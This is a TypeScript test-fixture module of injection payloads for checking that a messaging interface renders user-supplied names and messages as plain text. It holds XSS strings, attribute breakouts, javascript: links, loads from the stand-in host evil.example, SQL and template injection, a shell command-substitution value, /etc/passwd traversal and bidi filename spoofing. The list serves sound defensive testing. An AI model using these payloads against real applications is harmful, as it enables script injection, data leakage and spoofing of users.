// Texts that a page could fall for: over a hundred, to be shown wherever somebody's words are shown, as nothing but text.
// Each of them would set `__pwned`, open a dialog, call another host, or break the layout.

export interface Payload {
  text: string;
  /** What stands there in a message, where some of its signs are marks; the text itself otherwise. */
  read: string;
}

const evil = "window.__pwned=1";

const html = [
  `<script>${evil}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${evil}">`,
  `<img src=https://evil.example/pixel.gif>`,
  `<svg onload=${evil}>`,
  `<svg/onload=${evil}//`,
  `<svg><script>${evil}</script></svg>`,
  `<svg><animate onbegin=${evil} attributeName=x dur=1s>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>">`,
  `<body onload=${evil}>`,
  `<details open ontoggle=${evil}>open</details>`,
  `<video><source onerror=${evil}></video>`,
  `<audio src=x onerror=${evil}>`,
  `<input autofocus onfocus=${evil}>`,
  `<a href="javascript:${evil}">click me</a>`,
  `<form action="javascript:${evil}"><button>go</button></form>`,
  `<object data="data:text/html,<script>${evil}</script>"></object>`,
  `<embed src="javascript:${evil}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>*{display:none!important}</style>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<math><mtext><img src=x onerror=${evil}></mtext></math>`,
  `<template><script>${evil}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${evil}>">`,
  `<textarea></textarea><script>${evil}</script>`,
  `<!--><img src=x onerror=${evil}>-->`,
  `<![CDATA[<script>${evil}</script>]]>`,
  `<marquee onstart=${evil}>wide</marquee>`,
  `<table><tr><td onmouseover=${evil}>`,
  `<div style="position:fixed;inset:0;background:red">over all</div>`,
  `<x onclick=${evil} tabindex=1>click</x>`,
  `</title><script>${evil}</script>`,
  `</textarea></style></script><b>out</b>`,
  `<scr<script>ipt>${evil}</scr</script>ipt>`,
  `&lt;script&gt;${evil}&lt;/script&gt;`,
  `&#60;img src=x onerror=${evil}&#62;`,
  `&amp;&quot;&apos;&nbsp;&copy;`,
];

const breakers = [
  `" onmouseover="${evil}" x="`,
  `' onfocus='${evil}' autofocus='`,
  `"><script>${evil}</script>`,
  `'><img src=x onerror=${evil}>`,
  `"/><svg/onload=${evil}>`,
  `\`-${evil}-\``,
  `\\"; ${evil}; //`,
  `'-${evil}-'`,
  `</script><script>${evil}</script>`,
  `]]>"><b>x`,
  `" style="position:fixed;inset:0" "`,
];

const addresses: Payload["text"][] = [
  `[win](javascript:${evil})`,
  `[win](JaVaScRiPt:${evil})`,
  `[win](java\tscript:${evil})`,
  `[win](javascript&colon;${evil})`,
  `[win](data:text/html,<script>${evil}</script>)`,
  `[win](vbscript:msgbox(1))`,
  `[win](//evil.example)`,
  `![pic](javascript:${evil})`,
  `![pic](data:image/svg+xml,<svg onload=alert(1)>)`,
  `<javascript:${evil}>`,
  `[a]: javascript:${evil}`,
  `[ref][a] javascript:alert(1)`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `javascript:${evil}//`,
  `blob:https://evil.example/1`,
  `file:///etc/passwd`,
];

const templates = [
  `{{constructor.constructor('${evil}')()}}`,
  `{{7*7}}`,
  "${7*7}",
  `<%= 7*7 %>`,
  `#{7*7}`,
  `{% include '/etc/passwd' %}`,
  `{"__proto__":{"isAdmin":true}}`,
  `%3Cscript%3E${evil}%3C/script%3E`,
  `%s%n%x %d`,
  `'; DROP TABLE messages; --`,
  `" OR ""="`,
  `$(touch /tmp/pwned)`,
  `../../../../etc/passwd`,
  `=HYPERLINK("https://evil.example","x")`,
];

const names = [
  `__proto__`,
  `constructor`,
  `toString`,
  `hasOwnProperty`,
  `undefined`,
  `null`,
  `NaN`,
  `[object Object]`,
  `true`,
];

const zalgo = (word: string, height: number) =>
  [...word].map((letter) => letter + "\u0300\u0316\u0334\u0489\u033f".repeat(height)).join("");

const scripts = [
  zalgo("zalgo", 2),
  `e${"\u0301".repeat(70)}`,
  `\u202Eevil rtl override`,
  `\u202Dltr override\u202C after`,
  `\u2066open isolate`,
  `\u2069\u2069\u2069closed too often`,
  `\u2067rtl isolate \u2068first strong`,
  `name\u202Egnp.exe`,
  `\u0645\u062f\u0631\u0633\u0629 \u0627\u0644\u0639\u0644\u0648\u0645 123 abc`,
  `\u05e9\u05dc\u05d5\u05dd (hello) \u05e2\u05d5\u05dc\u05dd!`,
  `\u200Bzero\u200Bwidth\uFEFF\u2060`,
  `line\u2028separator\u2029paragraph`,
  `soft\u00ADhyphen no\u00A0break`,
  `\u3000\u2003wide spaces\u2003\u3000.`,
  `\uFDFD\uFDFD\uFDFD\uFDFD`,
  `\u0E01${"\u0E49".repeat(40)}`,
  `\uD83D\uDE00`.repeat(38),
  `👩🏽‍🔬`.repeat(10),
  `🇩🇪🇫🇷🏴‍☠️🏳️‍🌈`,
  `\u{1F1E6}\u{1F1E6}\u{1F1E6}`,
  `\u{E0041}\u{E0042}tags\u{E007F}`,
  `Ṯ̤͍̥͇͈h̲́e͏͓̼̗̙̼̣͔`,
  `ﬃ ﷺ ǅ ⅷ ①`,
  `漢字かな交じり文が折り返される場所のない長い文章の試験用の文字列です`,
];

const shapes = [
  `color:red;background:url(https://evil.example/x)`,
  `expression(${evil})`,
  `}*{display:none}`,
  `W`.repeat(80),
  `i.`.repeat(40),
  `Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft`,
  `_`.repeat(60),
  `-----------------------------`,
  `a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t/u/v/w/x/y/z/0/1/2/3/4/5/6/7/8/9`,
];

const same = (text: string): Payload => ({ text, read: text });
const stripped = (text: string, marks: string): Payload => ({ text, read: text.replaceAll(marks, "") });

/** Up to 80 characters, three at least, no control characters: they fit everywhere, in names too. */
export const SHORT: readonly Payload[] = [
  ...html,
  ...breakers,
  ...addresses.filter((text) => !text.includes("\t")),
  ...templates,
  ...names,
  ...scripts,
  ...shapes,
]
  .filter((text) => [...text].length <= 80)
  .map((text) => (text.startsWith("`-") ? stripped(text, "`") : same(text)));

/** For where there is more room: up to 200 characters, and lines. */
export const NOTES: readonly Payload[] = [
  ...SHORT,
  ...addresses.filter((text) => text.includes("\t")).map(same),
  ...[...html, ...breakers, ...templates].filter((text) => [...text].length > 80).map(same),
  same(`first\n\n\nlast ${"y".repeat(150)}`),
  same(`\u0300\u0301`.repeat(90) + "end"),
];

/** Only messages hold these. */
export const WORDS: readonly Payload[] = [
  ...NOTES,
  same("x".repeat(10_000)),
  same("no end ".repeat(1_400)),
  same(zalgo("he comes", 20)),
  same("😀".repeat(50)),
  same("\u202E".repeat(500) + "deep"),
  same("\u2067".repeat(200) + "deep isolates"),
  stripped(`**bold <script>${evil}</script>**`, "**"),
  stripped(`\`\`<img src=x onerror=${evil}>\`\``, "``"),
  { text: `\`\`\`html\n<script>${evil}</script>\n\`\`\``, read: `<script>${evil}</script>` },
  { text: `> <svg onload=${evil}>`, read: `<svg onload=${evil}>` },
  { text: `- <img src=x onerror=${evil}>`, read: `<img src=x onerror=${evil}>` },
  {
    text: `[a link](https://example.org/"onmouseover="${evil})`,
    read: `[a link](https://example.org/"onmouseover="${evil})`,
  },
  { text: `[quoted](https://example.org/?a=%22%3E%3Cscript%3E)`, read: "quoted" },
  same(`https://example.org/<script>${evil}</script>`),
  same(`https://${"long.".repeat(60)}example.org/${"a".repeat(500)}`),
  same("*".repeat(3_000)),
  same(`${"[".repeat(1_500)}${"]".repeat(1_500)}`),
  same("a\u0001\u0007\u001B[31mb"),
  { text: `${"> ".repeat(3)}deep quotes`, read: "deep quotes" },
  same(Array.from({ length: 120 }, (_, n) => `line ${n}`).join("\n")),
];

/** What may stand in no name of a person or a room. */
export const REFUSED_NAMES: readonly string[] = [
  "nul\u0000here",
  "bell\u0007here",
  "esc\u001B[31mred",
  "two\nlines",
  "a\ttab",
  "del\u007Fete",
  "next\u0085line",
  "half \uD800 pair",
  "\u200B\u200B\u200B\u200B",
  "     ",
];

/** What may stand in no message. */
export const REFUSED_WORDS: readonly string[] = [
  "nul\u0000here",
  "half \uDFFF pair",
  "\u200B\u2060\uFEFF",
  "   \n\t ",
  "x".repeat(10_001),
];

/** Without what a page may break lines at or leave out. */
export const bare = (text: string): string => text.replaceAll(/\s/g, "");
